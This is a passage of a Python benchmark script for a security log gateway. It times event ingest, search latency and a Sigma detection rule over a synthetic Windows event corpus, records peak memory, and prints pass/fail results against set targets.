        f"(first run {rule['first_run']['duration_ms']:.0f}); {rule['matches']} matches, "
        f"{rule['encoded_injected']} encoded command lines injected"
    )
    if rule["matches"] < rule["encoded_injected"]:
        print("WARNING: the rule missed injected encoded command lines")
    print(
        f"peak RSS (MiB): gateway {memory['gateway_peak_rss_mib']} (its ingest workers "
        f"{', '.join(str(m) for m in memory['ingest_workers_peak_rss_mib']) or 'none'}), raw side "
        f"{memory['raw_peak_rss_mib']}, client {memory['client_peak_rss_mib']}; "
        f"chDB files on disk {memory['chdb_disk_mib']} MiB"
    )
    checks = (
        *ingest_checks,
        (
            f"search p99 < {TARGET_SEARCH_P99_MS:.0f} ms",
            overall["p99_ms"] < TARGET_SEARCH_P99_MS,
            f"{overall['p99_ms']:.1f} ms",
        ),
        (
            f"sigma rule run < {TARGET_RULE_MS:.0f} ms",
            rule["duration_ms_median"] < TARGET_RULE_MS,
            f"{rule['duration_ms_median']:.0f} ms",
        ),
    )
    for label, ok, got in checks:
        print(f"{'PASS' if ok else 'FAIL'}  {label} (got {got})")


def parser_build() -> str:
    """Whether the parser's modules run compiled (``setup.py``) in these processes."""
    modules = native.compiled()
    return f"compiled ({', '.join(modules)})" if modules else "Python (not compiled)"


async def run(args: argparse.Namespace, data_dir: Path) -> dict[str, Any]:
    """Start the gateway and the raw side, measure, and stop them (also when interrupted)."""
    templates, described = load_templates(args.corpus)
    # Whole days, so that runs are alike; the month ends an hour ago (searches read "recent").
    end = datetime.now(UTC).replace(minute=0, second=0, microsecond=0) - timedelta(hours=1)
    corpus = Corpus(templates, args.events, args.batch, end - timedelta(days=DAYS))
    settings = gateway_settings(
        data_dir / "gateway", free_port(), ingest_workers=args.ingest_workers
    )
    await prepare(settings)
    context = multiprocessing.get_context("spawn")
    # Not daemonic: the gateway starts its own ingest workers (it is stopped below in any case).
    gateway = context.Process(target=run_gateway, args=(settings,))
    ours, theirs = context.Pipe()
    raw = context.Process(
        target=run_raw,
        args=(theirs, data_dir / "raw" / "logstore", corpus),
        name="raw side",
        daemon=True,
    )
    gateway.start()
    raw.start()
    theirs.close()  # the child's end is the child's alone: reading ours fails when it exits
    try:
        report = await measure(args, settings, corpus, gateway, ours, raw)
        gateway_peak = peak_rss_mib(gateway.pid or 0)
        workers_peak = [peak_rss_mib(pid) for pid in child_pids(gateway.pid or 0)]
        ours.send(None)
        raw_peak = await asyncio.to_thread(ours.recv)
    finally:
        for process in (gateway, raw):
            process.terminate()
        for process in (gateway, raw):
            await asyncio.to_thread(process.join, 30)
    report["memory"] = {
        "gateway_peak_rss_mib": gateway_peak,
        "ingest_workers_peak_rss_mib": workers_peak,
        "raw_peak_rss_mib": raw_peak,
        "client_peak_rss_mib": peak_rss_mib(),
        "chdb_disk_mib": disk_mib(settings.data_dir / "logstore"),
    }
    report["events_requested"] = args.events
    report["corpus"] = described
    report["parser"] = parser_build()
    report["targets"] = {
        "ingest_ratio": TARGET_INGEST_RATIO,
        "ingest_eps": TARGET_INGEST_EPS,
        "search_p99_ms": TARGET_SEARCH_P99_MS,
        "rule_ms": TARGET_RULE_MS,
    }
    return report


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--events", type=int, default=5_000_000, help="events in the store")
    parser.add_argument("--batch", type=int, default=10_000, help="events per NDJSON batch")
    parser.add_argument("--concurrency", type=int, default=2, help="ingest batches in flight")
    parser.add_argument("--rounds", type=int, default=5, help="alternating ingest rounds")
    parser.add_argument("--round-batches", type=int, default=8, help="batches per ingest round")
    parser.add_argument("--repeats", type=int, default=50, help="runs of each search")
    parser.add_argument("--rule-runs", type=int, default=5, help="timed runs of the rule")
    parser.add_argument(
        "--settle-timeout",
        type=float,
        default=900,
        help="seconds to wait at most for background merges before searching (0: none)",
    )
    parser.add_argument(
        "--ingest-workers",
        type=int,
        default=None,
        help="the gateway's AURORA_INGEST_WORKERS (default: its own default, one per core)",
    )
    parser.add_argument(
        "--corpus", type=Path, default=CORPUS, help="directory of JSONL Windows events"
    )
    parser.add_argument(
        "--only",
        choices=("ingest",),
        help="measure only this part (ingest: the alternating rounds; no load, search or rule)",
    )
    parser.add_argument("--json", type=Path, help="also write the result here")
    args = parser.parse_args()
    if min(args.events, args.batch, args.concurrency, args.rounds, args.round_batches) < 1:
        parser.error("--events, --batch, --concurrency and the rounds must be at least 1")
    if args.repeats < 1 or args.rule_runs < 1:
        parser.error("--repeats and --rule-runs must be at least 1")
    if args.events < args.batch * 2:
        parser.error("--events must hold at least two batches")
    with tempfile.TemporaryDirectory(prefix="aurora-bench-") as tmp:
        try:
            report = asyncio.run(run(args, Path(tmp)))
        except KeyboardInterrupt:
            return 130  # the child processes were stopped on the way out
    print_report(report)
    if args.json:
        args.json.write_text(json.dumps(report, indent=2))
    return 0


if __name__ == "__main__":
    sys.exit(main())
